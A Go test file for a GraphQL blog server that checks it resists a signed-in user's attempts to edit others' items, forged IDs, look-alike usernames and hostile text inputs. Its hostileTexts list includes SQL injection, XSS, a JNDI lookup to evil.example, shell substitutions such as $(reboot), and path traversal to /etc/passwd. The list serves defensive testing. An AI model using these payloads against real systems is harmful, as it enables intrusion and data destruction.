package graph

import (
	"encoding/json"
	"maps"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"

	"byline/internal/oidctest"
	"byline/internal/testkit"
	"byline/store/blog"
)

// attackTest is a blog behind an HTTP server and an OpenID Connect provider. ada and grace wrote its items; mallory is
// signed in, too.
type attackTest struct {
	*testBlog
	t        *testing.T
	server   *httptest.Server
	provider *oidctest.Provider
	mallory  string // a valid token
}

func newAttackTest(t *testing.T) *attackTest {
	p := oidctest.New(t)
	f := &attackTest{t: t, provider: p, mallory: p.Token(t, map[string]any{"sub": "mallory"})}
	f.testBlog = smallBlog(t, Options{Verifier: verifierOf(t, p), Logger: testkit.Logger()})
	f.server = httptest.NewServer(f.testBlog)
	t.Cleanup(f.server.Close)
	a := f.send(attack{token: f.mallory,
		query: `mutation { createUser(input: {username: "mallory"}) { user { id } } }`})
	if a.code() != "" {
		t.Fatal(a.body)
	}
	return f
}

// attack is a request and its expected outcome: the code of the error. Without it, the request is harmless and must
// succeed.
type attack struct {
	token     string
	query     string
	variables any
	header    map[string]string

	code string
	data string // if set, the expected data
}

// send sends the request. Placeholders such as <post:moths> stand for global ids.
func (f *attackTest) send(a attack) testResponse {
	f.t.Helper()
	body, err := json.Marshal(map[string]any{"query": a.query, "variables": a.variables})
	if err != nil {
		f.t.Fatal(err)
	}
	r, err := http.NewRequestWithContext(f.t.Context(), http.MethodPost, f.server.URL+"/graphql",
		strings.NewReader(f.filled(string(body))))
	if err != nil {
		f.t.Fatal(err)
	}
	r.Header.Set("Content-Type", "application/json")
	r.Header.Set("Accept", mediaResponse)
	if a.token != "" {
		r.Header.Set("Authorization", "Bearer "+a.token)
	}
	for name, value := range a.header {
		r.Header.Set(name, value)
	}
	response, err := f.server.Client().Do(r)
	if err != nil {
		f.t.Fatal(err)
	}
	return readResponse(f.t, response)
}

// filled is fill for JSON, in which < and > are escaped.
func (f *attackTest) filled(body string) string {
	return f.fill(strings.NewReplacer(`\u003c`, "<", `\u003e`, ">").Replace(body))
}

// everything returns the public data of ada and grace, and of their posts, comments and likes.
func (b *testBlog) everything(t testing.TB) string {
	t.Helper()
	const of = `id username posts { edges { node { id title content version updatedAt commentCount likeCount author { id username }
		comments { edges { node { id content updatedAt author { username } } } } likes { edges { node { id user { username } } } } } } }`
	query := b.fill(`{ ada: user(id: "<user:ada>") { ` + of + ` } grace: user(id: "<user:grace>") { ` + of + ` } }`)
	a := post(t, b, "", query, nil)
	if a.code() != "" {
		t.Fatal(a.body)
	}
	return string(a.Data)
}

// run sends each attack, and checks its outcome and that the blog is unchanged.
func (f *attackTest) run(t *testing.T, attacks map[string]attack) {
	before := f.everything(t)
	for name, attack := range attacks {
		t.Run(name, func(t *testing.T) {
			inner := *f
			inner.t = t
			a := inner.send(attack)
			t.Logf("status %d, code %q", a.status, a.code())
			switch {
			case a.code() == "INTERNAL" || a.status == http.StatusInternalServerError:
				t.Errorf("status %d: %.500s", a.status, a.body)
			case a.code() != attack.code:
				t.Errorf("code %q, want %q: %.500s", a.code(), attack.code, a.body)
			case a.code() != "" && attack.data == "" && !allNull(t, a.Data):
				t.Errorf("refused, but has data: %.500s", a.body)
			case attack.data != "" && string(a.Data) != attack.data:
				t.Errorf("data %.500s, want %s", a.Data, attack.data)
			case attack.code == "UNAUTHENTICATED" && a.status != http.StatusUnauthorized:
				t.Errorf("status %d, want 401", a.status)
			}
			for name := range a.header {
				if name == "X-Injected" || name == "Set-Cookie" || strings.HasPrefix(name, "Access-Control-Allow") {
					t.Errorf("unexpected header %s", name)
				}
			}
			if after := inner.everything(t); after != before {
				t.Fatalf("the blog has changed:\nbefore %s\nafter  %s", before, after)
			}
		})
	}
}

// allNull reports whether data is absent or has no non-null field.
func allNull(t *testing.T, data json.RawMessage) bool {
	t.Helper()
	if data == nil {
		return true
	}
	var fields map[string]any
	if err := json.Unmarshal(data, &fields); err != nil {
		t.Fatal(err)
	}
	for _, value := range fields {
		if value != nil {
			return false
		}
	}
	return true
}

// A signed-in user tries to change or forge items of other users.
func TestAttacks_OtherUsersItems(t *testing.T) {
	f := newAttackTest(t)
	m := func(query string, variables map[string]any, code string) attack {
		return attack{token: f.mallory, query: query, variables: variables, code: code}
	}
	id := func(id string) map[string]any { return map[string]any{"id": id} }
	const (
		updatePost    = `mutation($id: ID!) { updatePost(input: {id: $id, title: "mine", content: "mine"}) { post { id } } }`
		deletePost    = `mutation($id: ID!) { deletePost(input: {id: $id}) { deletedPostId } }`
		updateComment = `mutation($id: ID!) { updateComment(input: {id: $id, content: "mine"}) { comment { id } } }`
		deleteComment = `mutation($id: ID!) { deleteComment(input: {id: $id}) { deletedCommentId } }`
		likePost      = `mutation($id: ID!) { likePost(input: {postId: $id}) { post { id } } }`
		node          = `query($id: ID!) { node(id: $id) { id } }`
	)
	moths := f.postID(t, "moths")
	attacks := map[string]attack{
		"another's post: update":    m(updatePost, id("<post:moths>"), "FORBIDDEN"),
		"another's post: delete":    m(deletePost, id("<post:moths>"), "FORBIDDEN"),
		"another's comment: update": m(updateComment, id("<comment:Poor thing.>"), "FORBIDDEN"),
		"another's comment: delete": m(deleteComment, id("<comment:Poor thing.>"), "FORBIDDEN"),
		"another's like: unlike": m(
			`mutation($id: ID!) { unlikePost(input: {postId: $id}) { post { likeCount } } }`, id("<post:moths>"), ""),
		"another's profile: take the name": m(
			`mutation { updateUser(input: {username: "ADA"}) { user { id } } }`, nil, "CONFLICT"),
		"another's profile: name a user": m(
			`mutation { updateUser(input: {id: "<user:ada>", username: "eve"}) { user { id } } }`, nil,
			"GRAPHQL_VALIDATION_FAILED"),
		"another's profile: in a variable": m(
			`mutation($i: UpdateUserInput!) { updateUser(input: $i) { user { id } } }`,
			map[string]any{"i": map[string]any{"username": "eve", "id": "<user:ada>"}}, "BAD_USER_INPUT"),
		"another's profile: create it again": m(
			`mutation { createUser(input: {username: "ada"}) { user { id } } }`, nil, "CONFLICT"),
		"another's name: create a post under it": m(
			`mutation($i: CreatePostInput!) { createPost(input: $i) { post { id } } }`,
			map[string]any{"i": map[string]any{"title": "t", "content": "c", "authorId": "<user:ada>"}},
			"BAD_USER_INPUT"),
		"moderator flag in a variable": m(
			`mutation($id: ID!, $moderator: Boolean) { deletePost(input: {id: $id}) { deletedPostId } }`,
			map[string]any{"id": "<post:moths>", "moderator": true}, "GRAPHQL_VALIDATION_FAILED"),
		"several mutations, one on another's post": {token: f.mallory, code: "FORBIDDEN",
			data:  `{"a":{"user":{"username":"mallory"}},"b":null}`,
			query: `mutation { a: updateUser(input: {username: "mallory"}) { user { username } } b: deletePost(input: {id: "<post:moths>"}) { deletedPostId } }`},
		"mutation hidden in a fragment": {query: `mutation { ...F } fragment F on Mutation { deletePost(input: {id: "<post:moths>"}) { deletedPostId } }`, code: "UNAUTHENTICATED"},

		"forged id: malformed":       m(deletePost, id("bm9uc2Vuc2U"), "BAD_USER_INPUT"),
		"forged id: an unknown post": m(deletePost, id(postGlobalID("absent")), "NOT_FOUND"),
		"forged id: a comment in another post": m(deleteComment,
			id(commentGlobalID(&blog.Comment{PostID: f.postID(t, "notes"), ID: moths})), "NOT_FOUND"),
		"forged id: a post as its own comment": m(deleteComment,
			id(commentGlobalID(&blog.Comment{PostID: moths, ID: moths})), "NOT_FOUND"),
		"forged id: a like as a comment": m(deleteComment,
			id(commentGlobalID(&blog.Comment{PostID: moths, ID: "like-" + subjectID("ada")})), "NOT_FOUND"),
		"forged id: a comment as a post":       m(updatePost, id(postGlobalID(subjectID("ada"))), "NOT_FOUND"),
		"forged id: the reservation of a name": m(node, id(userGlobalID("username:ada")), "BAD_USER_INPUT"),
		"forged id: a path": m(node, id(postGlobalID("../users/"+subjectID("ada"))),
			"BAD_USER_INPUT"),
		"forged id: SQL":                      m(node, id(postGlobalID("x' OR '1'='1")), "BAD_USER_INPUT"),
		"forged id: NUL":                      m(node, id(postGlobalID("a\x00b")), "BAD_USER_INPUT"),
		"forged id: a megabyte":               m(node, id(strings.Repeat("A", 1<<19)), "BAD_USER_INPUT"),
		"foreign id: a user's as a post's":    m(deletePost, id("<user:ada>"), "BAD_USER_INPUT"),
		"foreign id: a comment's as a post's": m(likePost, id("<comment:Poor thing.>"), "BAD_USER_INPUT"),
		"foreign id: a post's as a comment's": m(updateComment, id("<post:moths>"), "BAD_USER_INPUT"),
		"foreign id: a like's as a comment's": m(deleteComment, id("<like:ada>"), "BAD_USER_INPUT"),
		"foreign id: of another server":       m(deletePost, id("UG9zdDoxMjM="), "BAD_USER_INPUT"),
	}
	cursors := map[string]string{
		"of a user's posts": cursorOf(t, f.testBlog, `{ user(id: "<user:ada>") { posts { edges { cursor } } } }`),
		"of comments":       cursorOf(t, f.testBlog, `{ post(id: "<post:moths>") { comments { edges { cursor } } } }`),
		"of likes":          cursorOf(t, f.testBlog, `{ post(id: "<post:moths>") { likes { edges { cursor } } } }`),
		"of nonsense":       "bm9uc2Vuc2U",
		"of SQL":            "' OR 1=1 --",
	}
	for name, cursor := range cursors {
		attacks["a cursor "+name+" in the feed"] = m(`query($c: String) { feed(after: $c) { edges { cursor } } }`,
			map[string]any{"c": cursor}, "BAD_USER_INPUT")
		attacks["a cursor "+name+
			" in another post's likes"] = m(
			`query($c: String) { post(id: "<post:engines>") { likes(after: $c) { edges { cursor } } } }`,
			map[string]any{"c": cursor}, "BAD_USER_INPUT")
	}
	f.run(t, attacks)
}

// Usernames that look like another user's are refused by createUser and updateUser.
func TestUsernames_LookAlikesAreRefused(t *testing.T) {
	testkit.Heavy(t)
	f := newAttackTest(t)
	attacks := map[string]attack{}
	for name, lookAlike := range map[string]string{
		"Cyrillic":                 "аda",
		"Greek":                    "grαce",
		"fullwidth":                "ａｄａ",
		"mathematical":             "𝐚𝐝𝐚",
		"a combining accent":       "ada\u0301",
		"composed":                 "gráce",
		"a zero-width space":       "a\u200bda",
		"a zero-width joiner":      "ad\u200da",
		"a soft hyphen":            "a\u00adda",
		"a right-to-left override": "\u202eada",
		"a byte order mark":        "\ufeffada",
		"the Kelvin sign":          "\u212aelvin",
		"the long s":               "gra\u017f",
		"the dotless i":            "\u0131ada",
		"a space at the end":       "ada ",
		"a no-break space":         "ada\u00a0",
		"a Unicode hyphen":         "ada\u2010",
		"a line end":               "ada\n",
		"NUL":                      "ada\x00",
		"a full stop":              "ada.",
		"a slash":                  "../ada",
		"the id of a reservation":  "username:ada",
	} {
		code, variables := "BAD_USER_INPUT", map[string]any{"u": lookAlike}
		if strings.TrimSpace(lookAlike) == "ada" { // white space around it is dropped
			code = "CONFLICT"
		}
		attacks[name+": rename"] = attack{token: f.mallory,
			query: `mutation($u: String!) { updateUser(input: {username: $u}) { user { id } } }`, variables: variables,
			code: code}
		attacks[name+": create"] = attack{token: f.provider.Token(t, map[string]any{"sub": name}),
			query: `mutation($u: String!) { createUser(input: {username: $u}) { user { id } } }`, variables: variables,
			code: code}
		attacks[name+": look up"] = attack{query: `query($u: String!) { userByUsername(username: $u) { id } }`,
			variables: variables, data: `{"userByUsername":null}`}
	}
	attacks["another case"] = attack{token: f.mallory,
		query: `mutation { updateUser(input: {username: "Ada"}) { user { id } } }`, code: "CONFLICT"}
	f.run(t, attacks)
}

// hostileTexts have a meaning in SQL, HTML, shells, templates, formats or terminals.
var hostileTexts = []string{
	`'; DROP TABLE posts; --`, `' OR '1'='1`, `" OR ""="`, `x' OR c.type = 'user' --`, `@id`, `{{ .Key }}`,
	`${jndi:ldap://evil.example/a}`,
	`<script>alert(1)</script>`, `</script><img src=x onerror=alert(1)>`, `__proto__`, `constructor`, `{"$ne": null}`,
	`[{"op":"replace"}]`,
	`\u0000`, `\\`, `%00`, `%s%s%n`, `null`, `undefined`, `true`, `0`, `-1`, `1e999`, `NaN`, `=cmd|' /C calc'!A0`,
	`../../etc/passwd`, `$(reboot)`, "`reboot`",
	"a\u2028b\u2029c", "\u202etxet", "👩‍👩‍👧‍👦", "Z̸̛a̵l̶g̷o̸", "\ufeffx", "from c where c.type = 'post'",
}

// oneLine returns a hostile text as a title.
func oneLine(text string) string {
	return strings.NewReplacer("\u2028", " ", "\u2029", " ").Replace(text)
}

// Items and lists return each text exactly as it was sent.
func TestHostileTexts_RoundTrip(t *testing.T) {
	f := newAttackTest(t)
	ids := map[string]string{}
	do := func(query string, variables map[string]any) testResponse {
		t.Helper()
		a := f.send(attack{token: f.mallory, query: query, variables: variables})
		if a.code() != "" {
			t.Fatalf("%v: %s", variables, a.body)
		}
		return a
	}
	for i, text := range hostileTexts {
		var created struct {
			CreatePost struct{ Post struct{ ID string } }
		}
		a := do(`mutation($t: String!, $c: String!) { createPost(input: {title: $t, content: $c, idempotencyKey: $c}) { post { id } } }`,
			map[string]any{"t": oneLine(text), "c": text})
		if err := json.Unmarshal(a.Data, &created); err != nil {
			t.Fatal(err)
		}
		id := created.CreatePost.Post.ID
		if other := ids[id]; other != "" {
			t.Fatalf("%q and %q created the same post", text, other)
		}
		ids[id] = text
		do(`mutation($id: ID!, $t: String!) { createComment(input: {postId: $id, content: $t, idempotencyKey: $t}) { comment { id } } }`, map[string]any{"id": id, "t": text})
		if i%2 == 0 { // edits take another code path
			do(`mutation($id: ID!, $t: String!, $c: String!) { updatePost(input: {id: $id, title: $t, content: $c}) { post { id } } }`,
				map[string]any{"id": id, "t": oneLine(text) + "!", "c": text})
			do(`mutation($id: ID!, $t: String!) { updatePost(input: {id: $id, title: $t}) { post { id } } }`,
				map[string]any{"id": id, "t": oneLine(text)})
		}
	}
	var written struct {
		CreatePost struct{ Post struct{ Title string } }
	}
	a := do(`mutation { createPost(input: {title: "a\uD83D\uDE00b", content: "c"}) { post { title } } }`, nil)
	if err := json.Unmarshal(a.Data, &written); err != nil || written.CreatePost.Post.Title != "a\U0001F600b" {
		t.Error(a.body)
	}
	f.settle(t)
	type post struct {
		ID, Title, Content, Excerpt string
		Comments                    struct {
			Edges []struct{ Node struct{ Content string } }
		}
	}
	type list struct{ Edges []struct{ Node post } }
	check := func(where string, p post, comments bool) {
		t.Helper()
		text := ids[p.ID]
		if p.Title != oneLine(text) || p.Content != text || comments && p.Comments.Edges[0].Node.Content != text {
			t.Errorf("%s: %+v, want %q", where, p, text)
		}
		visible := strings.Join(
			strings.Fields(strings.NewReplacer("__proto__", "proto", "`", "", `\\`, `\`).Replace(text)), " ")
		if p.Excerpt != visible { // without markup
			t.Errorf("%s: the excerpt is %q, want %q", where, p.Excerpt, visible)
		}
	}
	for id := range maps.Keys(ids) {
		var got struct{ Post post }
		if err := json.Unmarshal(
			do(`query($id: ID!) { post(id: $id) { id title content excerpt comments { edges { node { content } } } } }`, map[string]any{"id": id}).Data, &got); err != nil {
			t.Fatal(err)
		}
		check("post", got.Post, true)
	}
	var got struct {
		Feed   list
		Viewer struct{ Posts list }
	}
	if err := json.Unmarshal(
		do(`{ feed(first: 100) { edges { node { id title content excerpt } } } viewer { posts(first: 100) { edges { node { id title content excerpt } } } } }`, nil).Data, &got); err != nil {
		t.Fatal(err)
	}
	for where, l := range map[string]list{"feed": got.Feed, "posts of the user": got.Viewer.Posts} {
		n := 0
		for _, e := range l.Edges {
			if _, mine := ids[e.Node.ID]; mine {
				check(where, e.Node, false)
				n++
			}
		}
		if n != len(hostileTexts) {
			t.Errorf("%s has %d of %d posts", where, n, len(hostileTexts))
		}
	}
	// Ids and cursors refuse all of them.
	for _, text := range hostileTexts {
		for field, a := range map[string]attack{
			"after": {query: `query($t: String!) { feed(after: $t) { edges { cursor } } }`,
				variables: map[string]any{"t": text}},
			"id": {query: `query($t: ID!) { node(id: $t) { id } }`, variables: map[string]any{"t": text}},
		} {
			if _, err := strconv.Atoi(text); err == nil && field == "id" {
				continue // an id of no object
			}
			if got := f.send(a); got.code() != "BAD_USER_INPUT" {
				t.Errorf("%s %q: %s", field, text, got.body)
			}
		}
	}
}
